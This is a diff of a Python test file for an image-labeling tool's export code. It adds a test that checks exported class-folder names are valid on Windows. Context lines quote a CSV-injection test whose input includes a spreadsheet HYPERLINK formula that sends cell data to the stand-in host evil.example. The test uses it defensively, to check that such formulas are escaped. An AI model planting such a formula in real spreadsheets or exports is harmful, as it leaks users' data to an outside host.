@@ -4,6 +4,7 @@ shortlist.datasets and torchvision), and bad requests leave nothing behind."""
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 from pathlib import Path
@@ -16,11 +17,12 @@ from typer.testing import CliRunner
 
 from agent import client, exports
 from agent.cli import read_labels_csv
+from agent.testing import publish_linear
 from shortlist.cli import app
 from shortlist.datasets import iter_images
 from shortlist.images import decode_image
 from shortlist.v1 import agent_pb2
-from tests.agent.conftest import CLASSES, Running, make_images, make_samples
+from tests.agent.conftest import CLASSES, SIZE, Running, make_images, make_samples, start
 
 runner = CliRunner()
 
@@ -173,7 +175,6 @@ def test_csv_cells_are_never_spreadsheet_formulas_and_still_round_trip(running: 
     send cells away) are written with a leading ' (OWASP), and one that starts with ' gets one too; our
     readers (read_csv_rows, read_ids, `label`'s and `retract-labels --if-current`'s) read the names back as
     given, so an export still drives `retract-labels --if-current`."""
-    import csv
 
     ids = ["=2+5", "+x", "-y", "@z", "'q", "''r", "'=s", "ok"]
     who = '=HYPERLINK("http://evil.example/?"&A2,"click")'
@@ -264,3 +265,39 @@ def test_exported_files_give_torchvision_the_pixels_shortlist_decodes(name: str,
     assert np.array_equal(seen, expected)
     if name.startswith(("plain", "gray.", "palette.")):
         assert out == data  # kept as stored: nothing re-encoded without need
+
+
+def test_class_folders_are_names_windows_can_create(tmp_path: Path) -> None:
+    """Class folders were written as the class names, so a Download zip with a class like 'chat noir ?' could
+    not be extracted on Windows: a folder name is made safe (<>:"/\\|?* and control characters as _, no trailing
+    dot or space, no device name), unique case-insensitively; ids.csv, FiftyOne and the CSV keep the exact
+    class name."""
+    classes = ["a?b", "a_b", "CON", "x:y*", "chat noir #1 %20 ?é", "cat"]
+    publish_linear(tmp_path / "models", size=SIZE, dim=16, rotation=True, seed=0)  # no classes: an open list
+    running = start(tmp_path / "data", tmp_path / "models")
+    try:
+        samples = make_samples(len(classes))
+        assert client.ingest(running.stub, samples).accepted == len(classes)
+        reply = client.submit_labels(running.stub, [(s.id, c) for s, c in zip(samples, classes, strict=True)], "ann")
+        assert not reply.rejected, reply.rejected
+        out = tmp_path / "export"
+        code, text = cli(running, "--out", str(out), "--format", "csv,imagefolder,fiftyone", "--prior-method", "")
+        assert code == 0, text
+    finally:
+        running.stop()
+    tree = out / "imagefolder"
+    folders = sorted(p.name for p in tree.iterdir() if p.is_dir())
+    assert len(folders) == len(classes) and len({f.casefold() for f in folders}) == len(classes)
+    for name in folders:
+        assert not set(name) & set('<>:"/\\|?*') and name.isprintable() and name[-1] not in ". ", name
+        assert name.split(".")[0].upper() not in {"CON", "PRN", "AUX", "NUL"}, name
+    assert {"a_b", "cat", "chat noir #1 %20 _é", "_CON", "x_y_"} <= set(folders)  # safe names kept as they are
+    ids = exports.read_ids(tree)
+    with open(tree / exports.IDS_FILE, newline="", encoding="utf-8") as f:
+        by_file = {exports.csv_unescape(r["file"]): exports.csv_unescape(r["label"]) for r in csv.DictReader(f)}
+    label_of = dict(zip((s.id for s in samples), classes, strict=True))
+    assert {f: label_of[i] for f, i in ids.items()} == by_file  # the exact class beside each file
+    assert (tree / next(f for f, c in by_file.items() if c == "a?b")).is_file()
+    fo = exports.read_fiftyone_classification(out / "fiftyone")
+    assert sorted(fo.values()) == sorted(classes)
+    assert sorted(r["label"] for r in exports.read_csv_rows(out / "labels.csv")) == sorted(classes)
